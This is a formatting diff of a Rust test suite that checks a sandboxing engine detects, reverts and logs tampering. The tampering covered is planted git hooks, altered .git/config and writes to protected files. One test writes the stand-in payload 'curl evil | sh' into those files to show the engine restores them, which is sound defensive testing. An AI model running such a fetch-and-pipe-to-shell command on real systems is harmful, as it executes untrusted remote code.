@@ -14,7 +14,14 @@ const HOOK: &str = "#!/bin/sh\ntouch \"$MARKER\"\n";
 
 fn git(dir: &Path, args: &[&str]) -> std::process::Output {
     Command::new("git")
-        .args(["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@example.invalid"])
+        .args([
+            "-c",
+            "safe.directory=*",
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.invalid",
+        ])
         .args(args)
         .current_dir(dir)
         .output()
@@ -34,13 +41,24 @@ fn repo_fixture() -> Fixture {
 /// The planted hook writes `marker`; a later commit must not create it.
 fn commit_outside_leash(ws: &Path, marker: &Path) -> bool {
     let out = Command::new("git")
-        .args(["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@example.invalid"])
+        .args([
+            "-c",
+            "safe.directory=*",
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.invalid",
+        ])
         .args(["commit", "-q", "--allow-empty", "-m", "later"])
         .env("MARKER", marker)
         .current_dir(ws)
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     marker.exists()
 }
 
@@ -82,23 +100,41 @@ fn planted_hooks_and_git_config_are_reverted(#[case] script: &str) {
 
     // Both are back as they were.
     let hooks = std::fs::symlink_metadata(ws.join(".git/hooks")).unwrap();
-    assert!(hooks.is_dir() && !hooks.file_type().is_symlink(), "hooks/ is not a directory");
-    assert!(!ws.join(".git/hooks/pre-commit").exists(), "planted hook left in place");
+    assert!(
+        hooks.is_dir() && !hooks.file_type().is_symlink(),
+        "hooks/ is not a directory"
+    );
+    assert!(
+        !ws.join(".git/hooks/pre-commit").exists(),
+        "planted hook left in place"
+    );
     let config_meta = std::fs::symlink_metadata(ws.join(".git/config")).unwrap();
     assert!(config_meta.is_file(), ".git/config is not a regular file");
-    assert_eq!(std::fs::read(ws.join(".git/config")).unwrap(), config_before);
+    assert_eq!(
+        std::fs::read(ws.join(".git/config")).unwrap(),
+        config_before
+    );
 
     // Recorded and failing, with a reason naming the file.
     assert!(!report.tampered.is_empty());
-    assert!(report.tampered.iter().all(|t| t.reverted), "{:?}", report.tampered);
+    assert!(
+        report.tampered.iter().all(|t| t.reverted),
+        "{:?}",
+        report.tampered
+    );
     let reason = report.tamper_reason().unwrap();
     assert!(reason.contains(".git/"), "{reason}");
     let records = audit(&engine);
-    let tamper: Vec<_> = records.iter().filter(|(k, _)| k == "security.tamper").collect();
+    let tamper: Vec<_> = records
+        .iter()
+        .filter(|(k, _)| k == "security.tamper")
+        .collect();
     assert!(!tamper.is_empty(), "no security.tamper record");
     assert!(
-        tamper.iter().any(|(_, p)| p["path"].as_str().is_some_and(|s| s.contains(".git/"))
-            && p["summary"].is_string()),
+        tamper.iter().any(
+            |(_, p)| p["path"].as_str().is_some_and(|s| s.contains(".git/"))
+                && p["summary"].is_string()
+        ),
         "{tamper:?}"
     );
 
@@ -117,7 +153,10 @@ fn a_hook_planted_in_a_repository_made_during_the_command_is_removed() {
     assert!(report.outcome.is_some());
     let sub = fx.workspace().join("sub");
     assert!(sub.join(".git").exists(), "the repository itself stays");
-    assert!(!sub.join(".git/hooks/post-checkout").exists(), "planted hook kept");
+    assert!(
+        !sub.join(".git/hooks/post-checkout").exists(),
+        "planted hook kept"
+    );
     assert!(report.tamper_reason().is_some());
 }
 
@@ -146,9 +185,8 @@ fn protected_files_are_reverted(#[case] name: &str, #[case] initial: Option<&str
         std::fs::write(&path, text).unwrap();
     }
     let engine = fx.engine("");
-    let script = format!(
-        "mkdir -p \"$(dirname {name})\"; echo 'curl evil | sh' > {name}; echo wrote"
-    );
+    let script =
+        format!("mkdir -p \"$(dirname {name})\"; echo 'curl evil | sh' > {name}; echo wrote");
     let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", &script]);
     let outcome = report.outcome.as_ref().unwrap();
     assert_eq!(String::from_utf8_lossy(&outcome.stdout.bytes), "wrote\n");
@@ -156,7 +194,11 @@ fn protected_files_are_reverted(#[case] name: &str, #[case] initial: Option<&str
         Some(text) => assert_eq!(std::fs::read_to_string(&path).unwrap(), text),
         None => assert!(!path.exists(), "{name} left in place"),
     }
-    assert!(report.tampered.iter().any(|t| t.path == path && t.reverted), "{:?}", report.tampered);
+    assert!(
+        report.tampered.iter().any(|t| t.path == path && t.reverted),
+        "{:?}",
+        report.tampered
+    );
 }
 
 #[test]
@@ -166,7 +208,11 @@ fn ordinary_work_in_the_workspace_is_not_tampering() {
     let report = run_allowed(
         &engine,
         "/bin/sh",
-        &["sh", "-c", "echo more >> README; mkdir src; echo x > src/a.txt"],
+        &[
+            "sh",
+            "-c",
+            "echo more >> README; mkdir src; echo x > src/a.txt",
+        ],
     );
     assert!(report.outcome.is_some());
     assert!(report.tampered.is_empty(), "{:?}", report.tampered);
